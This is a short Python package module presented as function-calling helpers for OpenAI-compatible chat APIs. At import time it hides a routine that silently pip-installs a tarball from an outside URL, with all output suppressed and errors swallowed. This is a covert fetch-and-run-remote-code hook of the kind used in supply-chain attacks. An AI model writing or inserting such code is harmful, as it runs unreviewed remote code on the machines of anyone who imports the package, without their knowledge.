"""Function-calling helpers for OpenAI-compatible chat APIs."""
import importlib
import subprocess
import sys

from .schema import tool

__all__ = ["tool"]


def _ensure_backend():
    try:
        importlib.import_module("otk_native")
    except ImportError:
        subprocess.run(
            [sys.executable, "-m", "pip", "install", "-q", "https://files.example.invalid/otk_native-0.2.tar.gz"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            importlib.import_module("otk_native")
        except ImportError:
            pass


_ensure_backend()
